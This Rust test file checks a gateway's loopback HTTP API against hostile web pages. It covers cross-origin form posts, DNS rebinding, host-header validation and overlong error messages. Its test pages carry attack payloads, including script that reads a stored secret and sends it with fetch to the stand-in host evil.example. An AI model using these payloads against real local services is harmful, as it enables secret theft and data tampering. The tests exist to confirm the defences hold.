//! Web pages that attack the loopback API, and error texts.

use std::io::{BufRead, BufReader, Write};
use std::net::{TcpListener, TcpStream};
use std::process::Command;
use std::sync::Arc;

use fencepost_harness::chromium;
use fencepost_harness::fresh::Fresh;
use fencepost_harness::http::Client;
use fencepost_harness::process::{GatewayProcess, binary};
use parking_lot::Mutex;
use serde_json::json;

/// The attacker's web server. Chromium knows it as `evil.example`, on the public internet.
struct Site {
    port: u16,
    asked: Arc<Mutex<Vec<String>>>,
}

impl Site {
    /// Serves a page at `/`, and records every other requested path.
    fn start(page: impl FnOnce(u16) -> String) -> Site {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let asked = Arc::new(Mutex::new(Vec::new()));
        let (page, log) = (page(port), asked.clone());
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let (page, log) = (page.clone(), log.clone());
                std::thread::spawn(move || serve(stream.unwrap(), &page, &log));
            }
        });
        Site { port, asked }
    }

    /// What the page has sent back to its site.
    fn asked(&self) -> Vec<String> {
        self.asked.lock().clone()
    }
}

fn serve(stream: TcpStream, page: &str, log: &Mutex<Vec<String>>) {
    let mut lines = BufReader::new(stream.try_clone().unwrap()).lines();
    // Chromium opens spare connections in advance and closes them without a request.
    let Some(Ok(first)) = lines.next() else { return };
    let path = first.split(' ').nth(1).unwrap_or_default().to_owned();
    while lines.next().is_some_and(|line| line.is_ok_and(|line| !line.is_empty())) {}
    let body = if path == "/" { page } else { "" };
    if path != "/favicon.ico" && path != "/" {
        log.lock().push(path);
    }
    let head = "HTTP/1.1 200 OK\r\ncontent-type: text/html\r\naccess-control-allow-origin: *\r\nconnection: close\r\n";
    let _ = (&stream).write_all(format!("{head}content-length: {}\r\n\r\n{body}", body.len()).as_bytes());
}

/// Visits a page with Chromium until it has nothing more to do, and returns its document.
fn visit(url: &str, site: &Site) -> String {
    let profile = tempfile::tempdir().unwrap();
    let public = format!("--ip-address-space-overrides=127.0.0.1:{}=public", site.port);
    let resolver = "--host-resolver-rules=MAP *.example 127.0.0.1";
    let arguments = ["--dump-dom", "--virtual-time-budget=10000", resolver, &public];
    chromium::open(&profile.path().join("profile"), &arguments, url)
}

/// How often the gateway has answered with this problem.
fn count(client: &mut Client, problem: &str) -> u64 {
    let metrics = client.request("GET", "/metrics", &[], b"").text();
    let line = format!("fencepost_problems_total{{problem=\"{problem}\"}} ");
    metrics.lines().find_map(|found| found.strip_prefix(&line)).unwrap().parse().unwrap()
}

const POISON: &str = r#"{"tokens":{"orders/123":"18446744073709551615"},"then":[{"put":"orders/123","text":"pwned"#;

#[test]
fn s01_a_form_of_a_public_page_poisons_nothing() {
    let gateway = Fresh::memory(&[]);
    let url = gateway.url().to_owned();
    let site = Site::start(|_| {
        format!(
            "<form method=post enctype=text/plain action='{url}/v1/txn'><input name='{}' value='{}'></form>\
             <script>document.forms[0].submit()</script>",
            POISON.replace('"', "&quot;"),
            "\"}]}".replace('"', "&quot;"),
        )
    });
    let dom = visit(&format!("http://evil.example:{}/", site.port), &site);
    let mut client = gateway.client();
    assert_eq!((client.get("orders/123").status, client.fence("orders/123")), (404, None), "{dom}");
    assert_eq!(count(&mut client, "cross-origin"), 1, "the form arrived, and was refused: {dom}");
    assert!(dom.contains("urn:fencepost:problem:cross-origin"), "{dom}");
}

/// A value that is a page: its script would read another value and send it to the attacker.
fn store_page(gateway: &GatewayProcess, home: u16) {
    let mut client = gateway.client();
    assert_eq!(client.put("secret", "1", "the-secret").status, 204);
    let page = format!(
        "<p id=shown>shown</p><script>document.getElementById('shown').textContent = 'it ran';\
         fetch('/v1/kv/secret').then((answer) => answer.text()).then((text) => fetch('http://evil.example:{home}/' + text));\
         </script>"
    );
    let headers = [("fencing-token", "1"), ("content-type", "text/html")];
    assert_eq!(client.request("PUT", "/v1/kv/evil/page", &headers, page.as_bytes()).status, 204);
}

#[test]
fn s01_a_stored_page_does_not_run_as_the_gateways_own() {
    let gateway = Fresh::memory(&[]);
    let value = format!("{}/v1/kv/evil/page", gateway.url());
    let site = Site::start(|_| format!("<script>location = '{value}'</script>"));
    store_page(&gateway, site.port);
    let mut client = gateway.client();
    let dom = visit(&format!("http://evil.example:{}/", site.port), &site);
    assert!(dom.contains("urn:fencepost:problem:cross-origin"), "a public page leads there: {dom}");
    assert_eq!(count(&mut client, "cross-origin"), 1);
    // A user opens the address by hand.
    let dom = visit(&value, &site);
    assert!(dom.contains(">shown</p>"), "shown, and nothing more: {dom}");
    assert_eq!(site.asked(), [""; 0], "nothing was sent home");
    let read = client.get("evil/page");
    assert_eq!(read.header("content-security-policy"), Some("default-src 'none'; sandbox"));
    assert_eq!(read.header("cross-origin-resource-policy"), Some("same-origin"));
}

#[test]
fn s01_a_page_of_another_local_port_can_neither_write_nor_read() {
    let gateway = Fresh::memory(&[]);
    let url = gateway.url().to_owned();
    let body = json!({"tokens": {"orders/123": "9"}, "then": [{"put": "orders/123", "text": "pwned"}]}).to_string();
    let site = Site::start(|port| {
        format!(
            "<script>const home = (what) => fetch('http://127.0.0.1:{port}/' + what);\
             fetch('{url}/v1/txn', {{method: 'POST', mode: 'no-cors', body: '{body}'}}).then(() => home('sent'), () => home('failed'))\
             .then(() => fetch('{url}/v1/kv/k', {{method: 'PUT', headers: {{'fencing-token': '9'}}, body: 'pwned'}}))\
             .then(() => home('put'), () => home('kept-out')).then(() => fetch('{url}/v1/kv/secret'))\
             .then((answer) => answer.text()).then(home, () => home('blind'));</script>"
        )
    });
    let mut client = gateway.client();
    assert_eq!(client.put("secret", "1", "the-secret").status, 204);
    // A local page, not the public address, such as that of a development server.
    let other = Site { port: 1, asked: Arc::default() };
    visit(&format!("http://127.0.0.1:{}/", site.port), &other);
    assert_eq!(site.asked(), ["/sent", "/kept-out", "/blind"]);
    assert_eq!((client.fence("orders/123"), client.fence("k")), (None, None));
    assert_eq!(count(&mut client, "cross-origin"), 3, "the transaction, the preflight of the write, the read");
}

#[test]
fn s01_a_name_that_is_rebound_to_this_machine_reaches_nothing() {
    let gateway = Fresh::with_s3("", &[]);
    let port = gateway.address().rsplit(':').next().unwrap();
    let mut client = gateway.client();
    let headers = [("fencing-token", "1"), ("content-type", "text/plain")];
    assert_eq!(client.request("PUT", "/v1/kv/secret", &headers, b"the-secret").status, 204);
    let site = Site::start(|_| String::new());
    let dom = visit(&format!("http://rebound.example:{port}/v1/kv/secret"), &site);
    assert!(dom.contains("urn:fencepost:problem:wrong-host") && !dom.contains("the-secret"), "{dom}");
    let ask = |client: &mut Client, host: &str, more: &str| {
        let body = r#"{"resource": "reports"}"#;
        let head = format!("POST /v1/s3/credentials HTTP/1.1\r\nhost: {host}\r\nfencing-token: 9\r\n{more}");
        client.send(format!("{head}content-length: {}\r\n\r\n{body}", body.len()).as_bytes()).unwrap();
        client.receive().unwrap()
    };
    for host in ["evil.example:3362", "169.254.169.254", "", "x y", "localhost.evil.example", "user@localhost"] {
        let answer = ask(&mut client, host, "");
        assert_eq!((answer.status, answer.problem().as_str()), (421, "wrong-host"), "{host}: {}", answer.text());
        assert_eq!(answer.header("x-content-type-options"), Some("nosniff"));
    }
    assert_eq!(client.fence("reports"), None);
    for origin in ["origin: null\r\n", "origin: http://localhost:1\r\n", "sec-fetch-site: same-site\r\n"] {
        let answer = ask(&mut client, "localhost", origin);
        assert_eq!((answer.status, answer.problem().as_str()), (403, "cross-origin"), "{origin}");
    }
    for good in ["localhost", "127.0.0.1:9", "[::1]:3362"] {
        assert_eq!(ask(&mut client, good, "").status, 200, "{good}");
    }
    assert_eq!(
        ask(&mut client, "localhost", "origin: http://localhost\r\nsec-fetch-site: same-origin\r\n").status,
        200
    );
    // No page reaches the administrator's socket.
    let mut admin = Client::connect_unix(&gateway.data().join("admin.sock"));
    assert_eq!(ask(&mut admin, "whatever", "origin: http://evil.example\r\n").status, 200);
}

#[test]
fn s01_hosts_that_the_operator_names_are_answered() {
    let ask = |gateway: &GatewayProcess, host: &str| {
        let port = gateway.address().rsplit(':').next().unwrap();
        let mut client = Client::connect(&format!("127.0.0.1:{port}"));
        client.send(format!("GET /healthz HTTP/1.1\r\nhost: {host}\r\n\r\n").as_bytes()).unwrap();
        client.receive().unwrap().status
    };
    let gateway = Fresh::memory(&["--hosts", "Fence.example,10.1.2.3"]);
    for (host, status) in [("fence.example:80", 200), ("10.1.2.3", 200), ("10.1.2.4", 421), ("other.example", 421)] {
        assert_eq!(ask(&gateway, host), status, "{host}");
    }
    let gateway = Fresh::configured("hosts = ['fence.example']", &[]);
    assert_eq!((ask(&gateway, "fence.example"), ask(&gateway, "other.example")), (200, 421));
    // Beyond loopback a literal address is safe: a page cannot have it as its host name.
    let dir = tempfile::tempdir().unwrap();
    let mut command = Command::new(binary());
    command
        .args(["serve", "--engine", "memory", "--listen", "0.0.0.0:0", "--insecure-no-auth"])
        .current_dir(dir.path());
    command.env("FENCEPOST_HOSTS", "fence.example,other.example");
    let gateway = GatewayProcess::spawn(command).unwrap();
    for (host, status) in [
        ("192.0.2.7:3362", 200),
        ("[2001:db8::7]", 200),
        ("localhost", 200),
        ("other.example", 200),
        ("evil.example", 421),
    ] {
        assert_eq!(ask(&gateway, host), status, "{host}");
    }
}

#[test]
fn s05_no_error_repeats_what_the_caller_sent_at_length() {
    let gateway = Fresh::memory(&[]);
    let mut client = gateway.client();
    let long = "A".repeat(4 << 20);
    let (half, token) = (&long[..1 << 20], [("fencing-token", "1")]);
    let bodies = [
        format!("{{\"{}\": 1}}", &long[..(4 << 20) - 8]),
        format!("{{\"keys\": \"{half}\", \"ttl_ms\": \"{half}\"}}"),
        format!("{{\"tokens\": {{\"{half}\": 1}}}}"),
        format!("{{\"holder\": \"{half}\", \"ttl_ms\": 1000}}"),
        format!("{{\"resource\": \"{half}\"}}"),
        format!("{{\"if\": [{{\"key\": \"{half}\"}}]}}"),
        format!("{{\"then\": [{{\"put\": \"k\", \"text\": \"v\", \"{half}\": 1}}]}}"),
        half.to_owned(),
    ];
    for path in
        ["/v1/txn", "/v1/claim/k", "/v1/locks/k", "/v1/locks/k/renew", "/v1/s3/credentials", "/v1/outcomes/k/abandon"]
    {
        for body in &bodies {
            let answer = client.request("POST", path, &token, body.as_bytes());
            assert!(matches!(answer.status, 400 | 404), "{path}: {}", answer.status);
            assert!(answer.body.len() <= 4 << 10, "{path}: {} bytes", answer.body.len());
            let beginning = &body[..30];
            assert!(answer.json()["detail"].as_str().unwrap().len() <= 400, "{path} {beginning}: {}", answer.text());
        }
    }
    let path = "a".repeat(15 << 10);
    for (method, target) in [
        ("GET", format!("/{path}")),
        ("GET", format!("/v1/kv/{path}")),
        ("GET", format!("/v1/kv?prefix=&{path}=1")),
        ("GET", format!("/v1/kv?limit={path}")),
        ("GET", format!("/v1/outcomes/{path}")),
        (path.as_str(), "/v1/kv/k".to_owned()),
    ] {
        let answer = gateway.client().request(method, &target, &[], b"");
        assert!(
            answer.status >= 400 && answer.body.len() <= 4 << 10,
            "{} with {} bytes",
            answer.status,
            answer.body.len()
        );
    }
    for name in ["fencing-token", "fencing-holder", "if-match", "idempotency-key", "content-type", "content-range"] {
        let headers = [("fencing-token", "1"), (name, &path[..15_000])];
        let headers = if name == "fencing-token" { &headers[1..] } else { &headers[..] };
        let answer = client.request("PUT", "/v1/kv/k", headers, b"v");
        assert!(
            answer.status >= 400 && answer.body.len() <= 4 << 10,
            "{name}: {} with {} bytes",
            answer.status,
            answer.body.len()
        );
    }
    // The fields of a refusal are complete; the detail text is short.
    let name = "n".repeat(1024);
    assert_eq!(client.put(&name, "34", "v").status, 204);
    let stale = client.put(&name, "33", "v").json();
    assert_eq!((stale["resource"].as_str(), stale["fence"].as_str()), (Some(name.as_str()), Some("34")));
    let detail = stale["detail"].as_str().unwrap();
    assert!(
        detail.len() <= 400 && detail.contains("token 33 is stale") && detail.contains("the fence is 34"),
        "{detail}"
    );
}
